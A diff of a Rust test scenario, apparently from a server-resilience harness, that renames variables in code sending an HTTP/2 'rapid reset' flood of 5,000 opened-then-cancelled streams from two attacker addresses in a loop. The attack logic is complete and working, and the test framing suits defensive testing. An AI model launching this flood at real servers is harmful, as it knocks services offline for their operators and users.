@@ -1,4 +1,4 @@
-//! HTTP/2 requests that are called off as soon as they are made.
+//! Cancels HTTP/2 requests as soon as they are connect.
 
 use super::pause;
 use crate::ground::Ground;
@@ -7,20 +7,20 @@ const REQUESTS: usize = 5_000;
 const ADDRESSES: usize = 2;
 
 pub(super) async fn run(ground: Ground) {
-    let mut said = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
-    said.extend(frame(SETTINGS, 0, 0, &[]));
-    // GET http / at h, by the numbers that HPACK has for them.
+    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    bytes.extend(frame(SETTINGS, 0, 0, &[]));
+    // GET http / with host h, by their HPACK indices.
     let head = [0x82, 0x86, 0x84, 0x41, 1, b'h'];
     for nth in 0..ground.part(REQUESTS) {
         let stream = 2 * nth as u32 + 1;
-        said.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &head));
-        said.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
+        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &head));
+        bytes.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
     }
     for wave in 0.. {
         let from = ground.attackers.nth(wave % ADDRESSES);
-        if let Ok(mut line) = ground.line(from).await {
-            let _ = line.say(&said).await;
-            line.hear().await;
+        if let Ok(mut connection) = ground.connect(from).await {
+            let _ = connection.send(&bytes).await;
+            connection.read_status().await;
         }
         pause(1.0).await;
     }
